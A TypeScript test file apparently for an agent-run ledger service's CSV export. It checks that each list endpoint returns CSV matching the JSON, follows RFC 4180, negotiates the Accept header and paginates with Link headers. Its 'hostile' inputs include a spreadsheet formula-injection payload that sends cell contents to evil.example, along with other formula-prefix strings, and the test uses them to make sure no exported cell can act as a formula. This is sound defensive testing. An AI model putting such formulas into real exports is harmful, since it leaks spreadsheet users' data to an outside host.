import assert from 'node:assert/strict'
import { chmodSync, writeFileSync } from 'node:fs'
import { join } from 'node:path'
import type { TestContext } from 'node:test'
import { test } from 'node:test'
import pg from 'pg'
import { requestOf } from '../src/client/request.ts'
import { type Name, names } from '../src/contract/paths.ts'
import { csvOf, csvPlanOf } from '../src/operations/csv.ts'
import { freshFolder } from './cli/folder.ts'
import { operationOf, responseOf } from './support/described.ts'
import { base, type Ledger, testLedger } from './support/engines.ts'

/** Every list, with an input that finds at least one item. */
const lists: [name: Name, input: Record<string, unknown>][] = [
  ['listRuns', { order: 'asc' }],
  ['listTurns', { runId: 'R-1' }],
  ['timeline', { runId: 'R-1' }],
  ['listRunFiles', { runId: 'R-1' }],
  ['listSpecs', {}],
  ['listSpecRuns', { specId: 'S-1' }],
  ['listSpecVersions', { specId: 'S-1' }],
  ['listChecks', {}],
  ['listAttention', {}],
  ['listAttention', { group: 'spec' }],
  ['listFeatures', {}],
  ['listFeatureRuns', { id: 1 }],
  ['listProjects', {}],
  ['listKeys', {}],
  ['listWebhooks', {}],
  ['listWebhookDeliveries', { id: 1 }],
  ['listEvents', { limit: 100 }],
  ['listLeaves', {}],
  ['search', { q: 'zebra' }],
  ['suggest', { field: 'agent' }],
  ['stats', {}],
  ['stats', { by: 'agent' }],
]

const hostile = [
  '=HYPERLINK("https://evil.example/?"&A1)',
  '+1+1',
  '-2+3',
  "@SUM(1,'x')",
  "'=1",
  '\t=1',
  '\r\n=1',
  '＝1',
  'a "quoted", text\nof two lines',
  ' spaces ',
  'ü → 😀',
]

/** Creates at least one of each noun, with texts that CSV must quote and that spreadsheets would read as formulas. */
async function fill({ client }: Ledger): Promise<void> {
  await client.createSpec({ specId: 'S-1', title: 'zebra', content: '- [ ] one' })
  await client.updateSpec({ specId: 'S-1', title: '=two' })
  await client.createFeature({ name: '-part', description: '' })
  for (const [at, text] of hostile.entries()) {
    await client.createRun({
      runId: `R-${at + 1}`,
      specId: 'S-1',
      title: text,
      agent: text,
      labels: { team: text },
      git: { branch: '', commit: '', dirty: false },
      links: [{ rel: 'pr', href: 'https://x.example/?a=1,2' }],
      exitCode: -1,
      usage: { inputTokens: 0, costUsd: 0.1 },
      content: 'zebra',
    })
  }
  await client.linkFeatures({ runId: 'R-1', featureIds: [1] })
  const files = [{ path: '=a.ts', insertions: 1 }]
  await client.appendTurn({ runId: 'R-1', prompt: '=go', answer: '', tools: [{ name: 'Edit', count: 2 }], files })
  await client.createCheck({ runId: 'R-1', name: '+tests', result: 'pass', content: 'zebra' })
  await client.createRun({ runId: 'R-99', title: '=bad', status: 'failed', author: '=ada' })
  await client.updateAttention({ runIds: ['R-99'], note: '=look' })
  // Of a type that does not occur here: a delivery between two reads of the list would change it.
  await client.createWebhook({ url: 'https://hooks.example/', types: ['spec.deleted'] })
  await client.testWebhook({ id: 1 })
}

/** Reads the CSV with PostgreSQL, a parser independent of ours that distinguishes an empty text from null. */
async function readCsv(t: TestContext, text: string, columns: readonly string[]) {
  const folder = freshFolder(t)
  chmodSync(folder, 0o755)
  const file = join(folder, 'list.csv')
  writeFileSync(file, text)
  const client = new pg.Client({ connectionString: process.env.CONDUCT_TEST_POSTGRES })
  await client.connect()
  try {
    const quoted = columns.map((name) => `"${name}"`)
    const own = quoted.map((name) => `${name} text`).join(', ')
    await client.query(`create temp table csv (line bigserial, ${own})`)
    await client.query(`copy csv (${quoted.join(', ')}) from '${file}' with (format csv, header match)`)
    return (await client.query<Record<string, string | null>>('select * from csv order by line')).rows
  } finally {
    await client.end()
  }
}

const at = (item: unknown, column: string): unknown =>
  column
    .split('.')
    .reduce<unknown>((value, field) => (value as Record<string, unknown> | null | undefined)?.[field], item)

/** The text that a reader of the CSV should find for a field, according to the documentation. */
function wanted(item: unknown, column: string): string | null {
  const value = column === 'value' && typeof item === 'string' ? item : at(item, column)
  if (value === null || value === undefined) return null
  return typeof value === 'string' ? value : JSON.stringify(value)
}

const csv = { headers: { accept: 'text/csv' } }
const pathOf = (name: Name, input: Record<string, unknown>) =>
  requestOf({ url: base }, name, input).url.slice(base.length)

test('every list is available as CSV, and openapi.json says so', () => {
  assert.deepEqual(names.filter((name) => csvPlanOf(name)).sort(), [...new Set(lists.map(([name]) => name))].sort())
  for (const name of names) {
    assert.equal(operationOf(name).description.includes('`Accept: text/csv`'), csvPlanOf(name) !== undefined, name)
    // Otherwise generated clients would type the response as the list or a string.
    assert.equal(responseOf(name, 200)?.content?.['text/csv'], undefined, name)
  }
  for (const name of ['getDiff', 'readContent'] as const) {
    assert.deepEqual(Object.keys(responseOf(name, 200)?.content ?? {}), ['application/json'], name)
  }
  assert.ok(responseOf('listEvents', 200)?.headers?.Link)
})

testLedger(
  'every list has the same values as CSV and as JSON, and no cell is a formula',
  async (ledger, t) => {
    await fill(ledger)
    await ledger.fetch('/v1/auth/keys')
    for (const [name, input] of lists) {
      const answer = (await (await ledger.fetch(pathOf(name, input))).json()) as Record<string, unknown>
      const response = await ledger.fetch(pathOf(name, input), csv)
      assert.equal(response.status, 200, name)
      assert.equal(response.headers.get('content-type'), 'text/csv; charset=utf-8; header=present')
      const text = await response.text()
      const list = csvPlanOf(name)?.find(({ field }) => Array.isArray(answer[field]))
      const columns = list?.columns.map((column) => column.name) ?? []
      const rows = await readCsv(t, text, columns)
      const items = answer[list?.field ?? ''] as unknown[]
      assert.ok(items.length > 0, `${name} finds nothing`)
      assert.equal(rows.length, items.length)
      for (const [n, item] of items.entries()) {
        for (const column of columns) {
          const cell = rows[n]?.[column] ?? null
          assert.equal(cell?.replace(/^'/, '') ?? null, wanted(item, column), `${name} ${column}`)
          const isNumber = typeof at(item, column) === 'number'
          assert.doesNotMatch(cell ?? '', isNumber ? /^[^-\d]/ : /^[=+\-@\t\r\n＝＋－＠]/, `${name} ${column}`)
        }
      }
    }
  },
  { webhooks: {}, isStill: true },
)

test('the format is that of RFC 4180', () => {
  const plan = csvPlanOf('listSpecVersions')
  assert.ok(plan)
  const versions = [
    { version: 2, title: 'a "b", c', createdAt: '2026-01-31T09:30:00.000Z' },
    { version: 1, title: null, createdAt: '2026-01-31T09:30:00.000Z' },
  ]
  const rows = '2,"a ""b"", c",2026-01-31T09:30:00.000Z\r\n1,,2026-01-31T09:30:00.000Z\r\n'
  assert.equal(csvOf(plan, { versions }), `version,title,createdAt\r\n${rows}`)
  assert.equal(csvOf(plan, { versions }, false), rows)
  assert.equal(csvOf(plan, { versions: [] }), 'version,title,createdAt\r\n')
  const values = csvPlanOf('suggest')
  assert.ok(values)
  assert.equal(csvOf(values, { values: ['', 'a'] }), 'value\r\n""\r\na\r\n')
})

testLedger('Accept chooses between JSON and CSV, and errors are JSON', async ({ client, fetch }) => {
  await client.createRun({ runId: 'R-1' })
  const typeFor = async (accept: string, path = '/v1/runs') =>
    (await fetch(path, { headers: { accept } })).headers.get('content-type')?.split(';')[0]
  for (const accept of [
    'text/csv',
    'TEXT/CSV; header=present',
    'text/csv, */*;q=0.1',
    'application/json;q=0.5, text/csv',
  ])
    assert.equal(await typeFor(accept), 'text/csv', accept)
  for (const accept of ['', '*/*', 'text/*', 'application/json, text/csv;q=0.9', 'text/csv;q=0', 'text/csvx'])
    assert.equal(await typeFor(accept), 'application/json', accept)
  assert.equal(await typeFor('text/csv', '/v1/runs/R-1'), 'application/json', 'one run is no list')
  const refused = await fetch('/v1/runs?limit=0', csv)
  assert.equal(refused.status, 422)
  assert.equal(((await refused.json()) as { code: string }).code, 'VALIDATION_ERROR')
})

testLedger('Link leads to the next page of CSV, also in the log', async ({ client, fetch }) => {
  for (const n of [1, 2, 3, 4, 5]) await client.createRun({ runId: `R-${n}` })
  for (const [path, field] of [
    ['/v1/runs?limit=2&order=asc', 'runs'],
    ['/v1/events?limit=2&type=run.created', 'events'],
    ['/v1/events?limit=2&type=run.created&order=desc', 'events'],
    ['/v1/log/leaves?limit=2', 'leaves'],
  ] as const) {
    const whole = (await (await fetch(path.replace('limit=2', 'limit=100'))).json()) as Record<string, unknown[]>
    let next: string | undefined = path
    let lines = 0
    let pages = 0
    while (next) {
      const answers: Response[] = await Promise.all([fetch(next), fetch(next, csv)])
      const links: (string | undefined)[] = answers.map(
        ({ headers }) => /^<\/conduct(\S+)>; rel="next"$/.exec(headers.get('link') ?? '')?.[1],
      )
      assert.equal(links[0], links[1])
      lines += ((await answers[1]?.text()) ?? '').split('\r\n').length - 2
      next = links[0]
      pages++
    }
    assert.equal(lines, whole[field]?.length, path)
    assert.ok(pages >= 3, path)
  }
  const { headers } = await fetch('/v1/events?limit=1')
  const { events } = await client.listEvents({ limit: 1 })
  assert.equal(new URLSearchParams(headers.get('link')?.replace(/^[^?]*\?|>.*$/g, '')).get('after'), events[0]?.id)
})
